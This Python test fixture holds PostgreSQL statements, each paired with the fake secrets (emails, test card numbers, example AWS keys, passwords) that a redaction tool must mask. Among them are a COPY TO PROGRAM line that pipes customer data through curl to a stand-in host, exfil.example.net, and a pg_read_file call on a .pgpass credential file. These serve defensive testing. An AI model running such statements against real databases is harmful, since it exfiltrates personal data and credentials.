"""Statements with known sensitive values: each entry is (sql, values that must never show)."""

from __future__ import annotations

EMAIL = "alice.wonderland@example.com"
CARD = "4111111111111111"  # Luhn-valid test card
CARD2 = "5500 0055 5555 5559"  # Luhn-valid, with spaces
SSN = "078-05-1120"
JWT = (
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0."
    "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
)
AWS = "AKIAIOSFODNN7EXAMPLE"
AWS_SECRET = "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY"
PRIVATE_KEY = (
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA3Tz2mr7SZiAMfQyuvBjM2\n"
    "-----END RSA PRIVATE KEY-----"
)
IBAN = "GB82WEST12345698765432"
PASSWORD = "Tr0ub4dor&3horse"
DB_PASSWORD = "s3cr3t-db-pw"
PHONE = "+1-202-555-0143"

CORPUS: list[tuple[str, list[str]]] = [
    (f"SELECT * FROM users WHERE email = '{EMAIL}'", [EMAIL, "alice.wonderland"]),
    (
        f"SELECT id FROM users WHERE lower(email) IN ('{EMAIL}', 'bob@corp.io')",
        [EMAIL, "bob@corp.io"],
    ),
    (f"UPDATE users SET ssn = '{SSN}' WHERE id = 7", [SSN, "078-05", "05-1120"]),
    (f"INSERT INTO cards (holder, card_number) VALUES ('Jane Roe', '{CARD}')", [CARD, "Jane Roe"]),
    (f"INSERT INTO cards (pan) VALUES ({CARD})", [CARD]),
    (f"SELECT * FROM payments WHERE card = '{CARD2}'", [CARD2, "5500 0055"]),
    (f"SELECT '{JWT}'::text AS bearer", [JWT, "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9"]),
    (f"INSERT INTO api_tokens (token) VALUES ('{JWT}')", [JWT]),
    (f"SELECT set_config('aws.key', '{AWS}', false)", [AWS, "IOSFODNN7"]),
    (f"INSERT INTO creds (k, s) VALUES ('{AWS}', '{AWS_SECRET}')", [AWS, AWS_SECRET]),
    (f"INSERT INTO keys (pem) VALUES ('{PRIVATE_KEY}')", ["MIIEpAIBAAKCAQEA3Tz2mr7SZiAMfQyuvBjM2"]),
    (f"UPDATE accounts SET iban = '{IBAN}' WHERE owner = 'x'", [IBAN, "WEST1234569"]),
    (f"CREATE ROLE agent LOGIN PASSWORD '{PASSWORD}'", [PASSWORD]),
    (f"CREATE USER bob WITH ENCRYPTED PASSWORD '{PASSWORD}' VALID UNTIL '2030-01-01'", [PASSWORD]),
    (f"ALTER ROLE agent PASSWORD '{PASSWORD}'", [PASSWORD]),
    (f"ALTER USER bob WITH PASSWORD E'{PASSWORD}\\n'", [PASSWORD]),
    (
        "SELECT * FROM dblink('host=10.0.0.5 dbname=prod user=admin "
        f"password={DB_PASSWORD}', 'SELECT ssn FROM people') AS t(ssn text)",
        [DB_PASSWORD],
    ),
    (
        f"SELECT dblink_connect('conn', 'postgresql://admin:{DB_PASSWORD}@db.internal:5432/prod')",
        [DB_PASSWORD],
    ),
    (
        "CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw "
        "OPTIONS (host 'db.internal.corp', port '5432', dbname 'prod')",
        ["db.internal.corp"],
    ),
    (
        "CREATE USER MAPPING FOR agent SERVER remote "
        f"OPTIONS (user 'remote_admin', password '{DB_PASSWORD}')",
        [DB_PASSWORD, "remote_admin"],
    ),
    (
        f"ALTER USER MAPPING FOR agent SERVER remote OPTIONS (SET password '{DB_PASSWORD}')",
        [DB_PASSWORD],
    ),
    (
        f"CREATE SUBSCRIPTION sub CONNECTION 'host=pub user=rep password={DB_PASSWORD}' "
        "PUBLICATION pub",
        [DB_PASSWORD],
    ),
    (
        f"COPY (SELECT * FROM customers WHERE ssn = '{SSN}') TO PROGRAM "
        f"'curl -s -T - https://admin:{DB_PASSWORD}@exfil.example.net/upload'",
        [DB_PASSWORD, SSN],
    ),
    (f"COPY customers FROM PROGRAM 'aws s3 cp s3://bucket/{AWS} -'", [AWS]),
    (
        f"COPY (SELECT ssn FROM customers WHERE email = '{EMAIL}') TO '/var/lib/pg/leak.csv' CSV",
        [EMAIL],
    ),
    (
        f"""INSERT INTO events (payload) VALUES ('{{"email": "{EMAIL}", "token": "{JWT}"}}')""",
        [EMAIL, JWT],
    ),
    (
        f"""SELECT '{{"password": "{PASSWORD}"}}'::jsonb -> 'password'""",
        [PASSWORD],
    ),
    (f"SELECT ARRAY['{EMAIL}', '{SSN}']", [EMAIL, SSN]),
    (f"SELECT '{{{SSN},{CARD}}}'::text[]", [SSN, CARD]),
    (f"SELECT E'line\\n{PASSWORD}\\tend'", [PASSWORD]),
    (f"SELECT E'it\\'s {EMAIL}'", [EMAIL]),
    ("SELECT U&'\\0061lice\\0040example.com secret-unicode'", ["secret-unicode", "lice"]),
    ("SELECT U&'!0061dmin-pw-9!0031' UESCAPE '!'", ["dmin-pw-9"]),
    (
        f"DO $$BEGIN EXECUTE 'ALTER ROLE agent PASSWORD ''{PASSWORD}'''; END$$",
        [PASSWORD],
    ),
    (
        "DO $body$ DECLARE k text := "
        f"'{AWS_SECRET}'; BEGIN PERFORM set_config('x.k', k, false); END $body$",
        [AWS_SECRET],
    ),
    (
        "CREATE FUNCTION leak() RETURNS text LANGUAGE sql AS "
        f"$fn$ SELECT '{EMAIL}' || '{SSN}' $fn$",
        [EMAIL, SSN],
    ),
    (
        f'CREATE FUNCTION py() RETURNS text LANGUAGE plpython3u AS $$ return "{PASSWORD}" $$',
        [PASSWORD],
    ),
    (
        f"CREATE FUNCTION q() RETURNS text LANGUAGE sql AS 'SELECT ''{DB_PASSWORD}'''",
        [DB_PASSWORD],
    ),
    (f"SELECT $${EMAIL} and {SSN}$$", [EMAIL, SSN]),
    (f"SELECT $tag${JWT}$tag$", [JWT]),
    (f"SELECT 1 -- {PASSWORD}\n FROM t", [PASSWORD]),
    (f"SELECT /* {EMAIL} */ id FROM users", [EMAIL]),
    (
        f"UPDATE people SET phone = '{PHONE}', dob = '1984-02-29' WHERE id = 3",
        [PHONE, "1984-02-29"],
    ),
    (
        f"SELECT * FROM users WHERE email = $1 AND note = 'contact {EMAIL} now'",
        [EMAIL, "contact"],
    ),
    (f"PREPARE p AS SELECT * FROM users WHERE ssn = '{SSN}'", [SSN]),
    (f"EXPLAIN SELECT * FROM users WHERE card = {CARD}", [CARD]),
    (
        f"WITH x AS (SELECT '{EMAIL}' AS email) INSERT INTO users (email) SELECT email FROM x",
        [EMAIL],
    ),
    (f"SELECT 1; SELECT '{SSN}'; SELECT {CARD}", [SSN, CARD]),
    (f"SELECT 'first'\n'{PASSWORD}'", [PASSWORD]),
    (f"SET app.api_key = '{AWS_SECRET}'", [AWS_SECRET]),
    (f"ALTER SYSTEM SET primary_conninfo = 'host=p password={DB_PASSWORD}'", [DB_PASSWORD]),
    (f"SELECT N'{PASSWORD}', X'DEADBEEFCAFE', B'1011001110'", [PASSWORD, "DEADBEEF", "1011001"]),
    (f"SELECT pg_read_file('/home/admin/.pgpass') || '{DB_PASSWORD}'", [DB_PASSWORD]),
    (f"INSERT INTO t (a) VALUES (31415926.5358979), ({CARD})", ["31415926", CARD]),
    (
        f"MERGE INTO users u USING (SELECT '{EMAIL}' AS e) s ON u.email = s.e "
        "WHEN NOT MATCHED THEN INSERT (email) VALUES (s.e)",
        [EMAIL],
    ),
    (f"COMMENT ON TABLE users IS 'owner {EMAIL}'", [EMAIL]),
]
